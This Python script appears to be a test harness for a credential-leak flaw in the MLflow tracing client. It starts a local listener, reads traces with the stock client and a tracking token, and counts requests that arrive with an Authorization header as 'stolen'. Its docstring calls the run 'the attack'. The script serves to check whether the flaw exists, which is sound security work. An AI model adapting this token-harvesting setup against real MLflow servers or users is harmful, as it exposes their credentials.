"""Reads traces with MLflow's own client, and listens at the address that their tags name.

Reads the token, the experiment, the traces and the port as JSON from standard input. Prints how many control
requests the listener received ("heard"), how many traces the client found, and how many requests carried the
token ("stolen").
"""

import contextlib
import http.server
import json
import os
import sys
import threading
import urllib.error
import urllib.request


class Listener(http.server.ThreadingHTTPServer):
    """Counts requests: the control's, and those with credentials."""

    def __init__(self, port):
        super().__init__(("127.0.0.1", port), Handler)
        self.heard = self.stolen = 0
        threading.Thread(target=self.serve_forever, daemon=True).start()

    def control(self):
        """Sends one request without credentials, to show that the listener works."""
        opener = urllib.request.build_opener(urllib.request.ProxyHandler({}))
        with contextlib.suppress(urllib.error.HTTPError):
            opener.open(f"http://127.0.0.1:{self.server_port}/proper", timeout=10)


class Handler(http.server.BaseHTTPRequestHandler):
    """Answers every request with 404."""

    def do_GET(self):
        if self.path == "/proper":
            self.server.heard += 1
        elif self.headers.get("Authorization"):
            self.server.stolen += 1
        self.send_response(404)
        self.send_header("Content-Length", "0")
        self.end_headers()

    do_POST = do_PUT = do_GET

    def log_message(self, *_):
        pass


def client_environment(environment, token, server="http://127.0.0.1:5000"):
    """The environment of a reader's client, without the server's settings."""
    kept = {name: value for name, value in environment.items() if not name.startswith(("MLFLOW_", "OIDC_"))}
    return kept | {
        "MLFLOW_TRACKING_TOKEN": token, "MLFLOW_TRACKING_URI": server, "no_proxy": "*", "HOME": "/tmp", "MLFLOW_HTTP_REQUEST_MAX_RETRIES": "0",
    }  # fmt: skip


def read_traces(experiment, traces):
    """Reads with the stock client; returns the number of traces found, and the error."""
    import mlflow

    found, error = 0, ""
    try:
        found = len(mlflow.search_traces(locations=[experiment], return_type="list"))
    except Exception as problem:
        error = f"{type(problem).__name__}: {problem}"[:200]
    for trace in traces:
        with contextlib.suppress(Exception):
            mlflow.get_trace(trace)
    return found, error


def main(given):
    """Runs the attack."""
    listener = Listener(given["port"])
    listener.control()
    environment = client_environment(dict(os.environ), given["token"])
    os.environ.clear()
    os.environ.update(environment)
    with contextlib.redirect_stdout(sys.stderr):
        found, error = read_traces(given["experiment"], given["traces"])
    listener.shutdown()
    return {"heard": listener.heard, "found": found, "stolen": listener.stolen, "error": error}


if __name__ == "__main__":
    print(json.dumps(main(json.load(sys.stdin))))
